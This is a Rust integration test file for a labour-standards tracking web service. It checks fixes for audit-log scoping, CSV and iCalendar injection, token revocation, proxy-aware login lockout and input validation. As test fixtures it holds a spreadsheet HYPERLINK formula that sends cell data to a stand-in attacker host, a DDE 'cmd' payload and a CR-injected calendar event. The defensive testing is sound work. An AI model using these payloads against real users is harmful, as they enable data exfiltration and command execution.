//! The holes a black-box probe found (issue 13), each closed and kept closed: audit scope, CSV
//! and calendar injection, import error lists, over-long parameters, token revocation,
//! trusted proxies, CSV line numbers, and the smaller ones. Memory bounds and slow bodies are
//! measured against the real binary in `tests/reliability/hostile.rs`.

use std::collections::BTreeSet;

use icalendar::{Calendar, Component};
use serde_json::{json, Value};

use crate::helpers::{Engine, Req, TestApp, TestResponse, Who, EVERYONE, OTHER, OWN, TEST_PASSWORD};
use crate::on_both_engines;

fn post(app: &TestApp, who: Who, path: &str, body: Value) -> TestResponse {
    app.send(who, Req::new("POST", path).json(body))
}

fn created_id(response: TestResponse) -> i64 {
    assert_eq!(response.status, 201, "{}", response.body);
    response.json()["id"].as_i64().expect("id")
}

fn import(app: &TestApp, who: Who, csv: impl Into<Vec<u8>>) -> TestResponse {
    let mut req = Req::new("POST", "/api/v1/imports/ratifications");
    req.body = Some(("text/csv".into(), csv.into()));
    app.send(who, req)
}

/// Records of every kind the audit log speaks of, in both countries.
fn make_one_of_everything(app: &TestApp) {
    for country in [OWN, OTHER] {
        created_id(post(
            app,
            Who::Admin,
            "/api/v1/organizations",
            json!({"country": country, "kind": "employer", "name": format!("Audit employers {country}")}),
        ));
        let gap = created_id(post(
            app,
            Who::Admin,
            "/api/v1/gaps",
            json!({"country": country, "conventions": ["C087"], "title": "Audit gap", "source": "audit"}),
        ));
        let worker = app.fixture().organization(country, "worker");
        let milestone = created_id(post(
            app,
            Who::Admin,
            "/api/v1/milestones",
            json!({"gap": gap, "kind": "draft_prepared", "title": "Audit step", "target_on": "2027-01-31", "organization": worker}),
        ));
        created_id(post(
            app,
            Who::Admin,
            &format!("/api/v1/milestones/{milestone}/comments"),
            json!({"body": "Audit note"}),
        ));
        let initiative = created_id(post(
            app,
            Who::Admin,
            "/api/v1/rbc-initiatives",
            json!({"name": format!("Audit dialogue {country}"), "kind": "company_union_dialogue", "countries": [country], "source": "audit"}),
        ));
        let activity = created_id(post(
            app,
            Who::Admin,
            "/api/v1/rbc-activities",
            json!({"initiative": initiative, "kind": "dialogue", "title": "Audit activity", "target_on": "2027-01-31", "organization": worker}),
        ));
        created_id(post(
            app,
            Who::Admin,
            &format!("/api/v1/rbc-activities/{activity}/notes"),
            json!({"body": "Audit note"}),
        ));
        created_id(post(
            app,
            Who::Admin,
            "/api/v1/programmes",
            json!({"name": format!("Audit programme {country}"), "countries": [country], "starts_on": "2019-01-01", "ends_on": "2027-12-31"}),
        ));
        let added = post(
            app,
            Who::Admin,
            "/api/v1/trade-arrangements/uk-dcts/events",
            json!({"country": country, "event": "listed", "occurred_on": "2024", "source": "audit"}),
        );
        assert_eq!(added.status, 201, "{}", added.body);
        created_id(post(
            app,
            Who::Admin,
            "/api/v1/supervisory-comments",
            json!({"body": "ceacr", "kind": "observation", "country": country, "conventions": ["C087"], "year": 2024, "source": "audit"}),
        ));
        let request = created_id(post(
            app,
            Who::Admin,
            "/api/v1/report-requests",
            json!({"kind": "article22_follow_up", "country": country, "conventions": ["C087"], "year": 2027, "due_on": "2027-09-01", "reason": "Audit follow-up"}),
        ));
        created_id(post(
            app,
            Who::Admin,
            "/api/v1/tasks",
            json!({"report_request": request, "kind": "submit_observations", "organization": worker, "title": format!("Secret task of {country}"), "due_on": "2027-08-15"}),
        ));
        let path = format!("/api/v1/report-schedules/{country}/C098");
        let tag = app.etag_of(&path);
        let schedule = app.send(
            Who::Admin,
            Req::new("PUT", path)
                .header("If-Match", &tag)
                .json(json!({"cycle_years": 3, "next_regular_year": 2027, "notes": "audited schedule"})),
        );
        assert_eq!(schedule.status, 200, "{}", schedule.body);
    }
    let ok = import(
        app,
        Who::Admin,
        "country,convention,status,source\nZWE,C155,in_progress,audit\nVNM,C155,in_progress,audit\n",
    );
    assert_eq!(ok.status, 200, "{}", ok.body);
    post(
        app,
        Who::Admin,
        "/api/v1/report-requests/generate",
        json!({"year": 2027}),
    )
    .ok_json();
    created_id(post(
        app,
        Who::Admin,
        "/api/v1/users",
        json!({"email": "new.office@audit.example", "role": "office", "countries": [OTHER], "password": TEST_PASSWORD}),
    ));
    created_id(post(
        app,
        Who::Admin,
        "/api/v1/tokens",
        json!({"name": "Audit dashboard", "expires_in_days": 30}),
    ));
    created_id(post(
        app,
        Who::Government,
        "/api/v1/feed-tokens",
        json!({"name": "Audit calendar"}),
    ));
}

/// Every audit entry `who` is shown (all pages).
fn audit_entries(app: &TestApp, who: Who, query: &str) -> (u16, Vec<Value>) {
    let mut entries = Vec::new();
    for page in 1.. {
        let response = app.get_as(who, &format!("/api/v1/audit?per_page=500&page={page}{query}"));
        if response.status != 200 {
            return (response.status, entries);
        }
        let body = response.json();
        let items = body["items"].as_array().expect("items").clone();
        let done = items.len() < 500;
        entries.extend(items);
        if done {
            break;
        }
    }
    (200, entries)
}

/// The request that reads the record an audit entry speaks of, through its own endpoint.
fn own_endpoint(entry: &Value) -> String {
    let id = entry["entity_id"].as_str().expect("entity_id");
    let snapshot = if entry["after"].is_null() {
        &entry["before"]
    } else {
        &entry["after"]
    };
    match entry["entity"].as_str().expect("entity") {
        "ratification" => format!("/api/v1/ratifications/{id}"),
        "convention" => format!("/api/v1/conventions/{id}"),
        "organization" => format!("/api/v1/organizations/{id}"),
        "gap" => format!("/api/v1/gaps/{id}"),
        "milestone" => format!("/api/v1/milestones/{id}"),
        "milestone_comment" => format!("/api/v1/milestones/{}/comments", snapshot["milestone_id"]),
        "report_request" => format!("/api/v1/report-requests/{id}"),
        "report_schedule" => format!(
            "/api/v1/report-schedules/{}/{}",
            entry["country"].as_str().expect("a schedule's country"),
            snapshot["convention"].as_str().expect("a schedule's convention")
        ),
        "task" => format!("/api/v1/tasks/{id}"),
        "user" => format!("/api/v1/users/{id}"),
        "token" => "/api/v1/tokens".to_string(),
        "feed_token" => "/api/v1/feed-tokens?user=all".to_string(),
        "supervisory_comment" => format!("/api/v1/supervisory-comments/{id}"),
        "trade_arrangement" => format!("/api/v1/trade-arrangements/{id}"),
        "rbc_initiative" => format!("/api/v1/rbc-initiatives/{id}"),
        "rbc_activity" => format!("/api/v1/rbc-activities/{id}"),
        "rbc_activity_note" => format!("/api/v1/rbc-activities/{}/notes", snapshot["activity_id"]),
        "programme" => format!("/api/v1/programmes/{id}"),
        other => panic!("an audit entry of an unknown kind: {other}"),
    }
}

/// A documented path with its parameters filled in (Zimbabwe, C087, id 1).
fn concrete(path: &str) -> String {
    path.replace("{iso3}", "ZWE")
        .replace("{country}", "ZWE")
        .replace("{code}", "C087")
        .replace("{convention}", "C087")
        .replace("{id}", "1")
}

on_both_engines! {
    fn audit_never_shows_an_entry_the_caller_could_not_read_through_its_own_endpoint(app) {
        make_one_of_everything(app);
        let (_, all) = audit_entries(app, Who::Admin, "");
        let kinds: BTreeSet<&str> = all.iter().filter_map(|e| e["entity"].as_str()).collect();
        for kind in ["ratification", "organization", "gap", "milestone", "milestone_comment", "report_request", "report_schedule", "task", "user", "token", "feed_token", "supervisory_comment", "trade_arrangement", "rbc_initiative", "rbc_activity", "rbc_activity_note", "programme"] {
            assert!(kinds.contains(kind), "the setup audits a {kind}: {kinds:?}");
        }
        let mut failures = Vec::new();
        for who in EVERYONE {
            let (status, shown) = audit_entries(app, who, "");
            let expected = match who {
                Who::Anonymous => 401,
                Who::Admin | Who::Office => 200,
                _ => 403,
            };
            assert_eq!(status, expected, "GET /audit as {who:?}");
            for entry in &shown {
                let path = own_endpoint(entry);
                let read = app.get_as(who, &path);
                if read.status != 200 {
                    failures.push(format!("{who:?} sees {} {} in the audit log but gets {} from {path}", entry["entity"], entry["entity_id"], read.status));
                }
            }
            // Every kind × own/other country: what the log shows is what the endpoint shows.
            for kind in &kinds {
                for country in [OWN, OTHER] {
                    let (_, of_kind) = audit_entries(app, who, &format!("&entity={kind}&country={country}"));
                    let total = all.iter().filter(|e| e["entity"] == *kind && e["country"] == country).count();
                    let readable = all
                        .iter()
                        .filter(|e| e["entity"] == *kind && e["country"] == country)
                        .filter(|e| app.get_as(who, &own_endpoint(e)).status == 200)
                        .count();
                    let want = if status == 200 { readable } else { 0 };
                    if of_kind.len() != want {
                        failures.push(format!("{who:?}, {kind} of {country}: the log shows {} of {total}, the endpoints {readable}", of_kind.len()));
                    }
                }
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
        // The probe's two findings, as such.
        let office_tasks = app.get_as(Who::Office, &format!("/api/v1/audit?entity=task&country={OTHER}")).ok_json();
        assert_eq!(office_tasks["total"], 0, "{office_tasks}");
        let office_users = app.get_as(Who::Office, "/api/v1/audit?entity=user").ok_json();
        assert_eq!(office_users["total"], 0, "{office_users}");
        let own_tasks = app.get_as(Who::Office, &format!("/api/v1/audit?entity=task&country={OWN}")).ok_json();
        assert!(own_tasks["total"].as_i64().unwrap() > 0, "office staff see their own countries' tasks");
    }

    fn csv_export_is_spreadsheet_safe_and_imports_back_unchanged(app) {
        let hyperlink = r#"=HYPERLINK("http://evil.example/?x="&A1,"x")"#;
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(["country", "convention", "status", "notes", "source", "source_date"]).unwrap();
        writer.write_record(["ZWE", "C155", "in_progress", hyperlink, "+cmd|' /C calc'!A0", "2024"]).unwrap();
        writer.write_record(["ZWE", "C187", "in_progress", "@SUM(1)", "-2+3", "2024"]).unwrap();
        writer.write_record(["ZWE", "C122", "in_progress", "-12", "'=already quoted", "2024"]).unwrap();
        writer.write_record(["ZWE", "C007", "in_progress", "-2019-07-05", "plain source", "2024"]).unwrap();
        let file = writer.into_inner().unwrap();
        let first = import(app, Who::Admin, file);
        assert_eq!(first.status, 200, "{}", first.body);

        let export = app.get("/api/v1/ratifications.csv?country=ZWE");
        assert_eq!(export.status, 200);
        let mut reader = csv::Reader::from_reader(export.body.as_bytes());
        let header = reader.headers().unwrap().clone();
        let col = |name: &str| header.iter().position(|h| h == name).unwrap();
        let cell = |record: &csv::StringRecord, name: &str| record.get(col(name)).unwrap().to_string();
        let mut seen = 0;
        for record in reader.records() {
            let record = record.unwrap();
            for value in record.iter() {
                // What a spreadsheet would run: a cell starting with = + - @ tab or CR
                // (a plain negative number or date is data).
                let runs = value.starts_with(['=', '+', '@', '\t', '\r'])
                    || (value.starts_with('-') && value != "-12" && value != "-2019-07-05");
                assert!(!runs, "an exported cell runs as a formula: {value:?}");
            }
            match cell(&record, "convention").as_str() {
                "C155" => {
                    assert_eq!(cell(&record, "notes"), format!("'{hyperlink}"));
                    assert_eq!(cell(&record, "source"), "'+cmd|' /C calc'!A0");
                    seen += 1;
                }
                "C187" => {
                    assert_eq!(cell(&record, "notes"), "'@SUM(1)");
                    assert_eq!(cell(&record, "source"), "'-2+3");
                    seen += 1;
                }
                "C122" => {
                    assert_eq!(cell(&record, "notes"), "-12", "numbers survive");
                    // A leading ' before a formula is the guard itself: the text is "=already quoted".
                    assert_eq!(cell(&record, "source"), "'=already quoted");
                    seen += 1;
                }
                "C007" => {
                    assert_eq!(cell(&record, "notes"), "-2019-07-05", "dates survive");
                    seen += 1;
                }
                _ => {}
            }
        }
        assert_eq!(seen, 4);
        // The export imports back unchanged, and the stored text is what was first sent.
        let again = import(app, Who::Admin, export.body.clone().into_bytes()).ok_json();
        assert_eq!((again["inserted"].as_i64(), again["updated"].as_i64()), (Some(0), Some(0)), "{again}");
        let stored = app.get("/api/v1/ratifications/ZWE/C155").ok_json();
        assert_eq!(stored["notes"], hyperlink);
        assert_eq!(stored["source"], "+cmd|' /C calc'!A0");
        assert_eq!(app.get("/api/v1/ratifications/ZWE/C122").ok_json()["source"], "=already quoted");

        // The command line writes the same spreadsheet-safe file.
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("export.csv");
        let output = std::process::Command::new(env!("CARGO_BIN_EXE_normtrack"))
            .args(["export", "ratifications", "--output"])
            .arg(&path)
            .env("DATABASE_URL", app.database_url())
            .env("RUST_LOG", "warn")
            .output()
            .expect("normtrack runs");
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        let written = std::fs::read_to_string(&path).unwrap();
        assert!(written.contains(&format!("\"'{}\"", hyperlink.replace('"', "\"\""))), "the CLI export guards the cell");
        assert!(!written.lines().any(|l| l.contains(",=") || l.contains(",@")), "no cell starts a formula");
        let all = app.get("/api/v1/ratifications.csv").body;
        assert_eq!(written, all, "the CLI and the API export the same bytes");
    }

    fn an_import_full_of_bad_rows_lists_the_first_thousand_errors_and_counts_the_rest(app) {
        let before = app.get("/api/v1/audit").ok_json()["total"].clone();
        let mut file = String::from("country,convention,status,source\n");
        for _ in 0..5000 {
            file.push_str("ZWE,C087,done,bad\n");
        }
        let response = import(app, Who::Admin, file);
        let problem = response.problem(422);
        let errors = problem["errors"].as_array().unwrap();
        assert_eq!(errors.len(), 1000);
        assert_eq!(errors[0]["line"], 2);
        assert_eq!(errors[999]["line"], 1001);
        let detail = problem["detail"].as_str().unwrap();
        assert!(detail.starts_with("5000 error(s)") && detail.contains("4000 more"), "{detail}");
        assert!(response.body.len() < 300_000, "{} bytes", response.body.len());
        assert_eq!(app.get("/api/v1/audit").ok_json()["total"], before);
    }

    fn import_errors_name_the_line_a_row_starts_on_for_lf_crlf_and_cr_files(app) {
        // Line 2 is good, line 3 bad; a quoted field spans lines 4 and 5; line 6 is bad.
        for end in ["\n", "\r\n", "\r"] {
            let file = [
                "country,convention,status,source",
                "ZWE,C155,in_progress,good",
                "ZWE,C187,done,bad status",
                "ZWE,C122,in_progress,\"a source",
                "on two lines\"",
                "ZWE,C007,soon,bad status",
                "",
            ]
            .join(end);
            let problem = import(app, Who::Admin, file).problem(422);
            let lines: Vec<i64> = problem["errors"].as_array().unwrap().iter().map(|e| e["line"].as_i64().unwrap()).collect();
            assert_eq!(lines, [3, 6], "line ends {end:?}: {problem}");
        }
    }

    fn over_long_values_of_every_query_parameter_get_a_4xx(app) {
        let doc: Value = serde_json::from_str(&normtrack::openapi::document_json()).unwrap();
        let long = "a".repeat(50_000);
        let mut tried = 0;
        let mut failures = Vec::new();
        for (path, item) in doc["paths"].as_object().unwrap() {
            let Some(get) = item.get("get") else { continue };
            let concrete = concrete(path);
            for parameter in get["parameters"].as_array().into_iter().flatten() {
                if parameter["in"] != "query" {
                    continue;
                }
                let name = parameter["name"].as_str().unwrap();
                let response = app.get(&format!("{concrete}?{name}={long}"));
                tried += 1;
                if response.status >= 500 {
                    failures.push(format!("GET {path}?{name}=<50,000 characters>: {} {}", response.status, response.body));
                } else if response.status == 400 {
                    response.problem(400);
                }
            }
        }
        assert!(tried > 40, "{tried} parameters tried");
        assert!(failures.is_empty(), "{}", failures.join("\n"));
        let q = app.get(&format!("/api/v1/countries?q={}", "a".repeat(201))).problem(400);
        assert!(q["errors"][0]["message"].as_str().unwrap().contains("200"), "{q}");
        assert_eq!(app.get(&format!("/api/v1/countries?q={}", "a".repeat(200))).status, 200);
    }

    fn a_task_title_cannot_write_lines_into_the_calendar_feed(app) {
        let request = created_id(post(app, Who::Admin, "/api/v1/report-requests", json!({"kind": "article22_follow_up", "country": OWN, "conventions": ["C087"], "year": 2027, "due_on": "2027-09-01", "reason": "Feed"})));
        let government = app.fixture().organization(OWN, "government");
        let evil = "Draft\rEND:VEVENT\rBEGIN:VEVENT\rUID:evil@attacker\rSUMMARY:Pay here\rURL:http://evil.example\rEND:VEVENT";
        created_id(post(app, Who::Admin, "/api/v1/tasks", json!({"report_request": request, "kind": "draft_report", "organization": government, "title": evil, "due_on": "2027-08-15"})));
        let feed = app.send(Who::Government, Req::new("GET", "/api/v1/deadlines.ics").header("Host", "evil.example")).body;
        // A lenient parser: any CR or LF ends a line.
        let lines: Vec<&str> = feed.split(['\r', '\n']).filter(|l| !l.is_empty()).collect();
        let begins = lines.iter().filter(|l| **l == "BEGIN:VEVENT").count();
        assert!(!lines.iter().any(|l| l.starts_with("UID:evil") || l.starts_with("SUMMARY:Pay")), "{feed}");
        assert!(!feed.contains('\r') || feed.split("\r\n").all(|l| !l.contains('\r')), "only CRLF line ends");
        // A strict parser sees the same events.
        let calendar: Calendar = feed.parse().expect("a valid iCalendar feed");
        let events = crate::helpers::feed_events(&calendar);
        assert_eq!(events.len(), begins);
        assert!(events.iter().all(|e| e.get_uid().is_some_and(|u| u.ends_with("@normtrack"))));
        // Links come from the configured address, not the Host header.
        for event in &events {
            let url = event.get_url().expect("a URL");
            assert!(url.starts_with(&*app.state.public_base), "{url}");
            assert!(!url.contains("evil.example"), "{url}");
        }
    }

    fn a_session_token_is_refused_in_the_feed_url(app) {
        let token = app.token(Who::Government).unwrap().to_string();
        app.send_with_token(None, Req::new("GET", format!("/api/v1/deadlines.ics?token={token}"))).problem(401);
        assert_eq!(app.get_as(Who::Government, "/api/v1/deadlines.ics").status, 200, "as a bearer header it works");
    }

    fn changing_a_password_ends_sessions_and_feeds(app) {
        let session = app.login(Who::Worker);
        let feed = post(app, Who::Worker, "/api/v1/feed-tokens", json!({"name": "Union calendar"})).json();
        let feed_url = feed["feed_url"].as_str().unwrap().to_string();
        assert_eq!(app.send_with_token(None, Req::new("GET", feed_url.clone())).status, 200);
        let tag = app.send_with_token(Some(&session), Req::new("GET", "/api/v1/auth/me")).header("etag").unwrap().to_string();
        let changed = app.send_with_token(Some(&session), Req::new("PATCH", "/api/v1/auth/me").header("If-Match", &tag).json(json!({"current_password": TEST_PASSWORD, "new_password": "a brand new pass phrase"})));
        assert_eq!(changed.status, 200, "{}", changed.body);
        for token in [session.as_str(), app.token(Who::Worker).unwrap()] {
            app.send_with_token(Some(token), Req::new("GET", "/api/v1/auth/me")).problem(401);
        }
        app.send_with_token(None, Req::new("GET", feed_url)).problem(401);
        let fresh = app.login_with(&Who::Worker.email(), "a brand new pass phrase");
        app.send_with_token(Some(&fresh), Req::new("GET", "/api/v1/auth/me")).ok_json();
    }

    fn a_reset_or_a_deactivation_ends_sessions_and_reactivation_brings_none_back(app) {
        let id = app.fixture().users[&Who::Employer];
        let session = app.login(Who::Employer);
        let feed = post(app, Who::Employer, "/api/v1/feed-tokens", json!({"name": "Employers' calendar"})).json();
        let feed_url = feed["feed_url"].as_str().unwrap().to_string();
        let reset = post(app, Who::Admin, &format!("/api/v1/users/{id}/password"), json!({"password": "reset by the administrator"}));
        assert!(reset.status < 300, "{}", reset.body);
        app.send_with_token(Some(&session), Req::new("GET", "/api/v1/auth/me")).problem(401);
        app.send_with_token(None, Req::new("GET", feed_url)).problem(401);

        let session = app.login_with(&Who::Employer.email(), "reset by the administrator");
        let patch = |active: bool| {
            let tag = app.etag_of(&format!("/api/v1/users/{id}"));
            let response = app.send(Who::Admin, Req::new("PATCH", format!("/api/v1/users/{id}")).header("If-Match", &tag).json(json!({"active": active})));
            assert_eq!(response.status, 200, "{}", response.body);
        };
        patch(false);
        app.send_with_token(Some(&session), Req::new("GET", "/api/v1/auth/me")).problem(401);
        patch(true);
        app.send_with_token(Some(&session), Req::new("GET", "/api/v1/auth/me")).problem(401);
        let admin_view = app.get("/api/v1/feed-tokens?user=all").ok_json();
        assert!(admin_view.as_array().unwrap().iter().all(|t| t["user"] != id || t["usable"] == false), "{admin_view}");
    }

    fn nobody_resets_their_own_password_without_the_current_one(app) {
        let admin = app.fixture().users[&Who::Admin];
        let problem = post(app, Who::Admin, &format!("/api/v1/users/{admin}/password"), json!({"password": "taken over by a thief"})).problem(422);
        assert_eq!(problem["errors"][0]["field"], "id");
        app.get("/api/v1/auth/me").ok_json();
        app.login(Who::Admin);
    }

    fn logging_out_ends_the_session_at_once(app) {
        let session = app.login(Who::Office);
        app.send_with_token(Some(&session), Req::new("GET", "/api/v1/auth/me")).ok_json();
        let out = app.send_with_token(Some(&session), Req::new("POST", "/api/v1/auth/logout"));
        assert_eq!(out.status, 204, "{}", out.body);
        app.send_with_token(Some(&session), Req::new("GET", "/api/v1/auth/me")).problem(401);
        app.send_with_token(Some(&session), Req::new("POST", "/api/v1/auth/logout")).problem(401);
        let logged = app.get(&format!("/api/v1/audit?entity=user&entity_id={}", app.fixture().users[&Who::Office])).ok_json();
        assert!(logged["items"].as_array().unwrap().iter().any(|e| e["action"] == "logout"), "{logged}");
        // A dashboard token has no session to end.
        app.send(Who::Viewer, Req::new("POST", "/api/v1/auth/logout")).problem(403);
    }

    fn administrators_list_anyones_feed_tokens_and_others_only_their_own(app) {
        let issued = post(app, Who::Government, "/api/v1/feed-tokens", json!({"name": "Ministry calendar"})).json();
        let government = app.fixture().users[&Who::Government];
        let all = app.get("/api/v1/feed-tokens?user=all").ok_json();
        assert!(all.as_array().unwrap().iter().any(|t| t["id"] == issued["id"]), "{all}");
        let theirs = app.get(&format!("/api/v1/feed-tokens?user={government}")).ok_json();
        assert_eq!(theirs.as_array().unwrap().len(), 1);
        app.get_as(Who::Office, "/api/v1/feed-tokens?user=all").problem(403);
        app.get_as(Who::Office, &format!("/api/v1/feed-tokens?user={government}")).problem(403);
        assert_eq!(app.get_as(Who::Government, &format!("/api/v1/feed-tokens?user={government}")).ok_json(), all.as_array().unwrap().iter().filter(|t| t["user"] == government).cloned().collect::<Value>());
        app.get("/api/v1/feed-tokens?user=01").problem(400);
        let revoked = app.send(Who::Admin, Req::new("DELETE", format!("/api/v1/feed-tokens/{}", issued["id"]))).ok_json();
        assert_eq!(revoked["usable"], false);
    }

    fn correct_logins_are_rate_limited_per_account(app) {
        for _ in 0..normtrack::auth::login_rate::PER_ACCOUNT_PER_MINUTE {
            app.login(Who::Government);
        }
        let response = app.send_with_token(None, Req::new("POST", "/api/v1/auth/login").json(json!({"email": Who::Government.email(), "password": TEST_PASSWORD})));
        response.problem(429);
        assert!(response.header("retry-after").is_some());
        app.login(Who::Employer);
    }

    fn duplicate_json_keys_are_refused(app) {
        let mut req = Req::new("POST", "/api/v1/gaps");
        req.body = Some(("application/json".into(), br#"{"country": "ZWE", "country": "VNM", "conventions": ["C087"], "title": "t", "source": "s"}"#.to_vec()));
        let problem = app.send(Who::Admin, req).problem(400);
        assert!(problem["detail"].as_str().unwrap().contains("twice"), "{problem}");
        let mut login = Req::new("POST", "/api/v1/auth/login");
        login.body = Some(("application/json".into(), format!(r#"{{"email": "x@y.org", "email": "{}", "password": "{TEST_PASSWORD}"}}"#, Who::Admin.email()).into_bytes()));
        app.send_with_token(None, login).problem(400);
    }

    fn passwords_of_white_space_and_addresses_with_invisible_characters_are_refused(app) {
        let spaces = post(app, Who::Admin, "/api/v1/users", json!({"email": "spaces@example.org", "role": "viewer", "password": " ".repeat(16)}));
        assert_eq!(spaces.problem(400)["errors"][0]["field"], "password");
        let invisible = post(app, Who::Admin, "/api/v1/users", json!({"email": "ana\u{200B}@example.org", "role": "viewer", "password": TEST_PASSWORD}));
        invisible.problem(400);
        let bidi = post(app, Who::Admin, "/api/v1/users", json!({"email": "ana@exa\u{202E}mple.org", "role": "viewer", "password": TEST_PASSWORD}));
        bidi.problem(400);
        // Normalised: full-width letters and case make one address.
        created_id(post(app, Who::Admin, "/api/v1/users", json!({"email": "ＡＮＡ@Example.org", "role": "viewer", "password": TEST_PASSWORD})));
        assert_eq!(post(app, Who::Admin, "/api/v1/users", json!({"email": "ana@example.ORG", "role": "viewer", "password": TEST_PASSWORD})).status, 409);
        app.login_with("Ana@Example.org", TEST_PASSWORD);
    }

    fn a_viewer_account_changes_its_password_and_logs_out(app) {
        created_id(post(app, Who::Admin, "/api/v1/users", json!({"email": "viewer.person@example.org", "role": "viewer", "password": TEST_PASSWORD})));
        let session = app.login_with("viewer.person@example.org", TEST_PASSWORD);
        let tag = app.send_with_token(Some(&session), Req::new("GET", "/api/v1/auth/me")).header("etag").unwrap().to_string();
        let changed = app.send_with_token(Some(&session), Req::new("PATCH", "/api/v1/auth/me").header("If-Match", &tag).json(json!({"current_password": TEST_PASSWORD, "new_password": "viewers change theirs too"})));
        assert_eq!(changed.status, 200, "{}", changed.body);
        let session = app.login_with("viewer.person@example.org", "viewers change theirs too");
        assert_eq!(app.send_with_token(Some(&session), Req::new("POST", "/api/v1/auth/logout")).status, 204);
        app.send_with_token(Some(&session), Req::new("GET", "/api/v1/auth/me")).problem(401);
    }

    fn head_is_answered_wherever_get_is(app) {
        let doc: Value = serde_json::from_str(&normtrack::openapi::document_json()).unwrap();
        let mut failures = Vec::new();
        for (path, item) in doc["paths"].as_object().unwrap() {
            if item.get("get").is_none() {
                continue;
            }
            let concrete = concrete(path);
            let get = app.get(&concrete);
            let head = app.send(Who::Admin, Req::new("HEAD", concrete.clone()));
            if head.status != get.status || !head.body.is_empty() {
                failures.push(format!("HEAD {concrete}: {} (GET {}) body {} bytes", head.status, get.status, head.body.len()));
            }
        }
        for page in ["/", "/healthz"] {
            assert_eq!(app.send_with_token(None, Req::new("HEAD", page)).status, 200, "HEAD {page}");
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }
}

fn trusted_proxy_app(engine: Engine, proxies: &str) -> Option<TestApp> {
    let proxies = proxies.to_string();
    TestApp::spawn_with(engine, move |settings| {
        settings.limits.trusted_proxies = normtrack::config::parse_cidrs("test", &proxies).unwrap();
    })
}

fn failed_login(app: &TestApp, email: &str, forwarded_for: &str) -> u16 {
    app.send_with_token(
        None,
        Req::new("POST", "/api/v1/auth/login")
            .header("X-Forwarded-For", forwarded_for)
            .json(json!({"email": email, "password": "wrong wrong wrong"})),
    )
    .status
}

/// Behind a trusted proxy, one client's failures lock out that client, not everyone.
fn lockout_follows_the_forwarded_client_behind_a_trusted_proxy(engine: Engine) {
    let Some(app) = trusted_proxy_app(engine, "127.0.0.0/8") else {
        return;
    };
    for i in 0..normtrack::auth::throttle::ADDRESS_LIMIT {
        assert_eq!(
            failed_login(&app, &format!("nobody{i}@example.org"), "203.0.113.7"),
            401
        );
    }
    assert_eq!(
        failed_login(&app, "someone@example.org", "203.0.113.7"),
        429,
        "that client is locked out"
    );
    assert_eq!(
        failed_login(&app, "someone@example.org", "198.51.100.2"),
        401,
        "another client is not"
    );
    // Without the setting, the header is ignored: the peer is the client.
    let Some(app) = TestApp::spawn(engine) else { return };
    for i in 0..normtrack::auth::throttle::ADDRESS_LIMIT {
        assert_eq!(
            failed_login(&app, &format!("nobody{i}@example.org"), &format!("203.0.113.{i}")),
            401
        );
    }
    assert_eq!(
        failed_login(&app, "someone@example.org", "198.51.100.2"),
        429,
        "a forged header changes nothing"
    );
}

#[test]
fn lockout_follows_the_forwarded_client_behind_a_trusted_proxy_on_sqlite() {
    lockout_follows_the_forwarded_client_behind_a_trusted_proxy(Engine::Sqlite);
}

#[test]
fn lockout_follows_the_forwarded_client_behind_a_trusted_proxy_on_postgres() {
    lockout_follows_the_forwarded_client_behind_a_trusted_proxy(Engine::Postgres);
}

/// Two instances on one PostgreSQL database: a logout or a password change through one is
/// refused by the other, whose caller cache had the token.
#[test]
fn revocation_reaches_a_second_instance_sharing_one_postgresql() {
    let Some(first) = TestApp::spawn(Engine::Postgres) else {
        return;
    };
    let settings = crate::helpers::TestDb::settings_for(first.database_url());
    let state = normtrack::startup::prepare_database(&settings).expect("second instance");
    let second = TestApp::serve(state, Engine::Postgres, None);
    let session = first.login(Who::Office);
    // Both instances know the token (the second has it in its caller cache).
    for app in [&first, &second] {
        app.send_with_token(Some(&session), Req::new("GET", "/api/v1/auth/me"))
            .ok_json();
    }
    assert_eq!(
        first
            .send_with_token(Some(&session), Req::new("POST", "/api/v1/auth/logout"))
            .status,
        204
    );
    let refused_within = wait_for_401(&second, &session);
    eprintln!("second instance refused the logged-out token after {refused_within:?}");
    // The same for a password change through the second instance, seen by the first.
    let session = second.login(Who::Worker);
    first
        .send_with_token(Some(&session), Req::new("GET", "/api/v1/auth/me"))
        .ok_json();
    let id = first.fixture().users[&Who::Worker];
    let reset = second.send_with_token(
        first.token(Who::Admin),
        Req::new("POST", format!("/api/v1/users/{id}/password"))
            .json(json!({"password": "changed on instance two"})),
    );
    assert!(reset.status < 300, "{}", reset.body);
    wait_for_401(&first, &session);
}

/// How long until `app` refuses `token`: at once, give or take the change notification's
/// delivery (milliseconds); fails after 2 s.
fn wait_for_401(app: &TestApp, token: &str) -> std::time::Duration {
    let started = std::time::Instant::now();
    loop {
        let status = app
            .send_with_token(Some(token), Req::new("GET", "/api/v1/auth/me"))
            .status;
        if status == 401 {
            return started.elapsed();
        }
        assert_eq!(status, 200);
        assert!(
            started.elapsed() < std::time::Duration::from_secs(2),
            "the other instance still accepts the token"
        );
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
}
